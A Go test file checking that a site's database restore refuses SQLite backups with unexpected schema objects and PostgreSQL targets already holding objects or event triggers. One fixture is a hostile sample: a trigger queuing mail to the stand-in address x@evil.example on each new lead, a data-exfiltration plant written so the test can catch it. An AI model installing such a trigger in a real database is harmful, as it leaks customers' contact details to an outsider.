package sqlstore_test

import (
	"context"
	"crypto/rand"
	"database/sql"
	"encoding/hex"
	"errors"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/nivaas-interiors/site/internal/backup"
	"github.com/nivaas-interiors/site/internal/sqlstore"
	"github.com/nivaas-interiors/site/internal/storetest"
)

// TestRestoreRefusesASchemaTheMigrationsDoNotMake: a SQLite backup whose
// database has one object more, less or different than this release's
// migrations make (a trigger that would mail every new lead out, a view, an
// index, a changed table, a migration this release lacks) is refused with a
// sentence naming it, before anything runs on it, and the target stays empty.
func TestRestoreRefusesASchemaTheMigrationsDoNotMake(t *testing.T) {
	ctx := context.Background()
	s := storetest.OpenSQLite(t)
	made := t.TempDir()
	if _, err := s.Snapshot(ctx, made); err != nil {
		t.Fatal(err)
	}
	snapshot, err := os.ReadFile(filepath.Join(made, sqlstore.SnapshotDB))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ name, change, want string }{
		{"none", ``, ``},
		{"added trigger", `CREATE TRIGGER leads_out AFTER INSERT ON leads BEGIN
			INSERT INTO outbox (message, status, created_at, kind) VALUES ('{"to":"x@evil.example"}', 'pending', new.created_at, 'company'); END`,
			`it has trigger "leads_out" (on leads), which the migrations do not make`},
		{"added view", `CREATE VIEW every_mobile AS SELECT mobile FROM leads`, `it has view "every_mobile"`},
		{"added index", `CREATE INDEX leads_by_mobile ON leads (mobile)`, `it has index "leads_by_mobile" (on leads)`},
		{"changed table", `ALTER TABLE leads ADD COLUMN note TEXT DEFAULT 'x'`, `its table "leads" differs from the one the migrations make`},
		{"dropped trigger", `DROP TRIGGER ` + firstTrigger(t, filepath.Join(made, sqlstore.SnapshotDB)), `which the migrations make`},
		{"unknown migration", `INSERT INTO goose_db_version (version_id, is_applied) VALUES (99999, 1)`, `it records migration 99999, which this release does not have`},
	} {
		t.Run(c.name, func(t *testing.T) {
			dataDir := t.TempDir()
			work := filepath.Join(dataDir, ".restore-test")
			os.Mkdir(work, 0o750)
			path := filepath.Join(work, sqlstore.SnapshotDB)
			if err := os.WriteFile(path, snapshot, 0o600); err != nil {
				t.Fatal(err)
			}
			if c.change != "" {
				db, err := sql.Open("sqlite", "file:"+path)
				if err != nil {
					t.Fatal(err)
				}
				if _, err := db.Exec(c.change); err != nil {
					t.Fatal(err)
				}
				db.Close()
			}
			dest := filepath.Join(dataDir, "site.db")
			_, err := sqlstore.RestoreSQLite(ctx, path, dest, sqlstore.RestoreOptions{Key: storetest.Key})
			if c.want == "" {
				if err != nil {
					t.Fatalf("the schema the migrations make was refused: %v", err)
				}
				return
			}
			var schemaErr *sqlstore.SchemaError
			if !errors.As(err, &schemaErr) || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "nothing was restored") {
				t.Fatalf("restore = %v, want a refusal saying %q", err, c.want)
			}
			if _, err := os.Stat(dest); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("a refused backup left %s: %v", dest, err)
			}
		})
	}
}

func firstTrigger(t *testing.T, path string) string {
	db, err := sql.Open("sqlite", "file:"+path+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var name string
	if err := db.QueryRow(`SELECT name FROM sqlite_master WHERE type = 'trigger' ORDER BY name LIMIT 1`).Scan(&name); err != nil {
		t.Fatal(err)
	}
	return name
}

// TestRestorePostgresRefusesATargetHoldingAnything: a PostgreSQL backup holds
// rows only and the migrations make every object of the restored schema, so a
// target schema holding any object (a function a trigger could call, a view, a
// type, a sequence) is refused by name, and so is a database with an event
// trigger, which would add its own objects as the migrations run.
func TestRestorePostgresRefusesATargetHoldingAnything(t *testing.T) {
	ctx := context.Background()
	s := storetest.OpenPostgres(t)
	dir := t.TempDir()
	snap, err := s.Snapshot(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	m := &backup.Manifest{Engine: snap.Engine, SchemaVersion: snap.SchemaVersion, Tables: snap.Tables}
	for _, c := range []struct{ name, create, want string }{
		{"function", `CREATE FUNCTION leads_out() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$`, `function "leads_out"`},
		{"view", `CREATE VIEW every_mobile AS SELECT 1 AS mobile`, `view "every_mobile"`},
		{"type", `CREATE TYPE mood AS ENUM ('x')`, `type "mood"`},
		{"sequence", `CREATE SEQUENCE lead_ids`, `sequence "lead_ids"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			target := storetest.PostgresURL(t)
			db, err := sql.Open("pgx", target)
			if err != nil {
				t.Fatal(err)
			}
			defer db.Close()
			if _, err := db.Exec(c.create); err != nil {
				t.Fatal(err)
			}
			_, err = sqlstore.RestorePostgres(ctx, target, dir, m, sqlstore.RestoreOptions{Key: storetest.Key})
			if !errors.Is(err, sqlstore.ErrNotEmpty) || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("restore into a schema holding a %s: %v, want a refusal naming %s", c.name, err, c.want)
			}
			var tables int
			db.QueryRow(`SELECT count(*) FROM pg_class WHERE relnamespace = current_schema()::regnamespace AND relkind = 'r'`).Scan(&tables)
			if tables != 0 {
				t.Errorf("the refused restore made %d tables", tables)
			}
		})
	}
	t.Run("event trigger", func(t *testing.T) {
		target := ownDatabase(t)
		db, err := sql.Open("pgx", target)
		if err != nil {
			t.Fatal(err)
		}
		defer db.Close()
		for _, q := range []string{
			`CREATE FUNCTION watch_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$`,
			`CREATE EVENT TRIGGER watch_ddl ON ddl_command_end EXECUTE FUNCTION watch_ddl()`,
			`CREATE SCHEMA site`,
		} {
			if _, err := db.Exec(q); err != nil {
				t.Fatal(err)
			}
		}
		u, _ := url.Parse(target)
		q := u.Query()
		q.Set("search_path", "site")
		u.RawQuery = q.Encode()
		_, err = sqlstore.RestorePostgres(ctx, u.String(), dir, m, sqlstore.RestoreOptions{Key: storetest.Key})
		if err == nil || !strings.Contains(err.Error(), `event trigger "watch_ddl"`) {
			t.Fatalf("restore into a database with an event trigger: %v", err)
		}
	})
}

// ownDatabase is a new database of its own on TEST_DATABASE_URL's server (an
// event trigger acts on a whole database), dropped at cleanup.
func ownDatabase(t *testing.T) string {
	t.Helper()
	storetest.PostgresURL(t) // skips without TEST_DATABASE_URL
	base := os.Getenv("TEST_DATABASE_URL")
	admin, err := sql.Open("pgx", base)
	if err != nil {
		t.Fatal(err)
	}
	var b [6]byte
	rand.Read(b[:])
	name := "test_db_" + hex.EncodeToString(b[:])
	if _, err := admin.Exec(`CREATE DATABASE ` + name); err != nil {
		admin.Close()
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if _, err := admin.Exec(`DROP DATABASE ` + name + ` WITH (FORCE)`); err != nil {
			t.Errorf("drop database %s: %v", name, err)
		}
		admin.Close()
	})
	u, err := url.Parse(base)
	if err != nil {
		t.Fatal(err)
	}
	u.Path = "/" + name
	return u.String()
}
